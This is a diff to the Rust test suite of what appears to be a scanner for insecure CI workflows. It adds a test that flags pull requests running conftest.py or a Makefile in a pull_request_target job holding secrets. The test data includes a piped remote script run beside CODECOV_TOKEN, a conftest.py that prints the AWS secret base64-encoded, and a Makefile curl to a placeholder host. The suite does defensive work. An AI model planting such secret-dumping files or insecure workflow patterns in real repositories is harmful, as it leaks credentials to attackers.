@@ -17,7 +17,7 @@ fn what_known_incidents_would_have_been_told() {
                 "- run: bash <(curl -s https://codecov.invalid/bash)\n  env: {CODECOV_TOKEN: '${{ secrets.CODECOV_TOKEN }}'}",
             ),
             &[
-                "high remote-script-beside-secrets ci.yml:7 People who may push can set off the job `build`, which runs what `https://codecov.invalid/bash` answers, unchecked, with the secret `CODECOV_TOKEN`.",
+                "high remote-script-beside-secrets ci.yml:7 People who may push can set off the job `build`, where what `https://codecov.invalid/bash` answers runs unchecked, with the secret `CODECOV_TOKEN`.",
             ],
         ),
         (
@@ -150,6 +150,40 @@ fn a_branch_name_in_a_shared_action_and_the_cache_behind_it() {
     let said = said_on(&public(), &base, &head);
     let rules: Vec<_> = said.iter().map(|line| line.split(' ').nth(1).unwrap()).collect();
     assert!(rules.contains(&"untrusted-text-executed"), "{said:#?}");
-    let cache = "high cache-crosses-trust publish.yml:7 The job `publish` restores caches that outsiders can fill, who run code in the job `build` of `ci.yml`, and `publish` works with the secret `PYPI_TOKEN`.";
+    let cache = "high cache-crosses-trust publish.yml:7 Outsiders who run code in the job `build` of `ci.yml` can fill caches that the job `publish` restores, and `publish` works with the secret `PYPI_TOKEN`.";
     assert!(said.iter().any(|line| line == cache), "{said:#?}");
+}
+
+#[test]
+fn a_build_file_of_a_pull_request_that_runs_before_anybody_merges_it() {
+    let ci = may(
+        &steps(
+            "pull_request_target",
+            "- uses: actions/checkout@v4\n  with: {ref: '${{ github.event.pull_request.head.sha }}'}\n- run: |\n    pytest\n    make\n  env: {AWS: '${{ secrets.AWS_ROLE }}'}",
+        ),
+        "contents: write",
+    );
+    let make = ("Makefile", "all:\n\ttrue\n");
+    let stolen = "import base64, os\nprint(base64.b64encode(os.environ['AWS'].encode()))\n";
+    let base = [(CI, ci.as_str()), make];
+    let says = "high exposed-file-changed conftest.py:1 `conftest.py` runs in the job `build` before anybody merges it, with `contents: write` and the secret `AWS_ROLE`; anyone who can open a pull request can set it off.";
+    let head = [(CI, ci.as_str()), make, ("conftest.py", stolen)];
+    assert_eq!(said_on(&public(), &base, &head), [says], "a new file");
+    let before = [(CI, ci.as_str()), make, ("conftest.py", "import os\n")];
+    assert_eq!(said_on(&public(), &before, &head), [says], "another text");
+    assert_eq!(said_on(&public(), &head, &base), Vec::<String>::new(), "a file less");
+    let both =
+        [(CI, ci.as_str()), ("Makefile", "all:\n\tcurl x.invalid\n"), ("conftest.py", stolen)];
+    assert_eq!(
+        said_on(&public(), &base, &both),
+        [
+            "high exposed-file-changed Makefile:1 `Makefile` and `conftest.py` run in the job `build` before anybody merges them, with `contents: write` and the secret `AWS_ROLE`; anyone who can open a pull request can set it off."
+        ],
+        "one sentence for one job"
+    );
+    let merged =
+        ci.replace("  with: {ref: '${{ github.event.pull_request.head.sha }}'}", "  with: {}");
+    let merged = merged.replace("pull_request_target", "push");
+    let (base, head) = ([(CI, merged.as_str()), make], [(CI, merged.as_str()), make, head[2]]);
+    assert_eq!(said_on(&public(), &base, &head), Vec::<String>::new(), "only what was merged runs");
 }
